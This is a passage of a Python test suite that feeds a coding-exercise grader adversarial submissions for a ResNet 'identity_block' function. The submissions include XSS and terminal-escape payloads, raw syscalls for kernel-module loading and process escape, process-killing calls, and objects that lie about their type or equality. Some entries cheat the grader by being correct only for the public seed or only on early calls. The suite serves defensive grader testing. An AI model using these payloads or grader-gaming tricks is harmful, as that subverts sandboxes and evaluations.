        " or (lambda pid: pid > 0 or (pid == 0 and os._exit(0)))(libc.syscall(56 if os.uname().machine == 'x86_64' else 220, ctypes.c_long(0x8000 | 17), 0, 0, 0, 0))"
    ),
    "a table of segments": refused("os.uname().machine == 'x86_64' and call(154, 0, 1, struct.pack('IIII', 0, 0, 0, 0x28), 16)"),
    "attributes of files": refused(
        "call(469, 469, -100, b'/tmp/home', bytes(24), 24, 0) or libc.ioctl(os.open('/tmp/x', os.O_RDONLY | os.O_CREAT), 0x40086602, bytes(8)) == 0"
    ),
    "modules of the kernel": refused("call(175, 105, b'x' * 64, 64, b'') or call(313, 273, 0, b'', 0) or call(246, 104, 0, 0, 0, 0)"),
}

# (13) What people read -----------------------------------------------------------------------------------------------

BAD = "<script>alert(1)</script><img src=x onerror=alert(1)>\\x1b[2J\\x1b]0;owned\\x07\\u202e\\x00</pre></code>`<b>x</b>`"
SHOWN = {
    "in a message": answer(
        f"def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    raise ValueError('{BAD}')\n"
    ),
    "in the name of an exception": answer(
        f"def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    raise type('{BAD}'.replace(chr(0), ''), (Exception,), {{}})('{BAD}')\n"
    ),
    "in the name of the function": answer(
        f"def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    return X.nothing\n\nidentity_block.__name__ = '{BAD}'\n"
        f"identity_block.__qualname__ = identity_block.__doc__ = identity_block.__module__ = '{BAD}'"
    ),
    "in the name of a layer": answer(
        HEAD + f"    return type('{BAD}'.replace(chr(0), ''), (Layer,), {{'call': lambda self, x: x * 2}})()(X)\n", honest=NEARLY
    ),
    "in names of parameters and defaults": answer(
        f"def identity_block(X, f, filters, training='{BAD}', initializer='{BAD}', **{{'more'}}):\n    return X\n".replace(
            "**{'more'}", "**more"
        )
        + f"\nimport inspect\nidentity_block.__signature__ = inspect.Signature([inspect.Parameter('X', 1, default='{BAD}')])"
    ),
    "in a line of the function": answer(
        HEAD + "    X = Conv2D(3, 2)(X)  # <script>alert(1)</script><img src=x onerror=alert(1)> \u202e\n    return X\n", honest=NEARLY
    ),
    "in what is printed": machine(
        f"print('{BAD}')\nprint('{BAD}', file=sys.stderr)\ndisplay({{'text/html': '{BAD}', 'application/javascript': 'alert(1)'}}, raw=True)"
    ),
    "in what a cell raises": machine(f"raise type('Bad', (Exception,), {{}})('{BAD}')", error="Bad"),
    "in the first line of a cell": Attack(
        "os._exit(0)  # <script>alert(1)</script><img src=x onerror=alert(1)>", "between", STUB, says=STOPPED
    ),
    "in the settings of a layer": answer(
        HEAD
        + f"    return type('Odd', (Layer,), {{'call': lambda self, x: x * 2, 'get_config': lambda self: {{'padding': '{BAD}', 'activation': '{BAD}'}}}})()(X)\n",
        honest=NEARLY,
    ),
}

# (14) Hostile values -------------------------------------------------------------------------------------------------


def returns(expression: str, before: str = "", **more) -> Attack:
    function = f"def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    return {expression}\n"
    return answer(f"{before}\n{RIGHT.replace('identity_block', 'right')}\n{function}", **more)


def odd(name: str, body: str, base: str = "") -> Attack:
    """An object with a strange method."""
    return returns("Odd()", f"class Odd{base}:\n    def {name}(self, *args, **kwargs):\n        {body}\n")


VALUES = {
    "__repr__ raises": odd("__repr__", "raise SystemExit"),
    "__repr__ ends the process": returns(
        "Odd()", "class Odd:\n    def __repr__(self):\n        os._exit(0)\n    __str__ = __format__ = __repr__\n"
    ),
    "__array__ lies": odd("__array__", "return np.zeros((2, 5, 5, 3), np.float32)"),
    "__array__ raises": odd("__array__", "raise KeyboardInterrupt"),
    "shape raises": returns("Odd()", "class Odd:\n    shape = property(lambda self: 1 / 0)\n    dtype = 'float32'\n"),
    "any attribute": odd("__getattr__", "return self"),
    "any attribute raises": odd("__getattribute__", "raise SystemError"),
    "__class__ lies": returns("Odd()", "class Odd:\n    __class__ = property(lambda self: keras.KerasTensor)\n"),
    "a class of tensors": returns(
        "Odd((2, 5, 5, 3))",
        "class Odd(keras.KerasTensor):\n    shape = property(lambda self: (2, 5, 5, 3))\n    __eq__ = lambda *a: True\n    __hash__ = object.__hash__\n",
    ),
    "equal to everything": returns(
        "Odd()",
        "class Odd:\n    __eq__ = __lt__ = __gt__ = __bool__ = __contains__ = lambda *a: True\n    __hash__ = lambda self: 0\n    __len__ = lambda self: 2**40\n",
    ),
    "an array with methods of its own": returns(
        "np.zeros((2, 5, 5, 3)).view(Odd)",
        "class Odd(np.ndarray):\n    def __array_function__(self, *args):\n        raise SystemExit\n    def astype(self, *args, **kwargs):\n        return stored_evidence()\n",
    ),
    "a generator": returns("(right(X, f, filters, training, initializer) for _ in itertools.count())"),
    "an endless list": returns("[right(X, f, filters, training, initializer)] * 100_000", most=9.9),
    "a list in itself": returns("loop", "loop = []\nloop.append(loop)"),
    "a string tensor": returns("tf.fill(tf.shape(X), 'x')"),
    "a ragged tensor": returns("tf.ragged.constant([[1.0], [2.0, 3.0]])"),
    "a complex tensor": returns("tf.cast(X, tf.complex64)"),
    "NaN": returns("X * float('nan')"),
    "a variable": returns("tf.Variable(tf.ones((2, 5, 5, 3)))"),
    "a shape out of all measure": returns("tf.zeros((0, 2**31, 2**31))"),
    "a class that is called": answer("class identity_block:\n    def __new__(cls, X, *args, **kwargs):\n        return X\n"),
    "an object that is called": answer(
        "class Odd:\n    def __call__(self, *args, **kwargs):\n        return args[0]\n    __signature__ = property(lambda self: 1 / 0)\n    __globals__ = None\n"
        "    __wrapped__ = property(lambda self: self)\n    __code__ = property(lambda self: os._exit(0))\n\nidentity_block = Odd()"
    ),
    "a coroutine": answer("async def identity_block(X, f, filters, training=None, initializer=random_uniform):\n    return X\n"),
    "right at first, then wrong": returns(
        "right(X, f, filters, training, initializer) if next(calls) < 1 else X", "calls = itertools.count()", most=9.9
    ),
    "right at first, then nearly": returns(
        "right(X, f, filters, training, initializer) if next(calls) < 3 else X", "calls = itertools.count()", most=9.9
    ),
    "wrong at first, then right": returns(
        "right(X, f, filters, training, initializer) if next(calls) else X", "calls = itertools.count()", most=9.9
    ),
    "right on arrays only": returns("X if isinstance(X, keras.KerasTensor) else right(X, f, filters, training, initializer)", most=9.9),
    "right on Keras tensors only": returns(
        "right(X, f, filters, training, initializer) if isinstance(X, keras.KerasTensor) else X", most=9.9
    ),
    "right for the public challenge only": returns(
        "right(X, f, filters, training, initializer) if sys._getframe(1).f_globals.get('PUBLIC_SEED') == 7 or f == 3 else X", most=9.9
    ),
    "a random answer": returns("right(X, f, filters, training, initializer) if np.random.rand() < 0.5 else X", most=9.9),
}
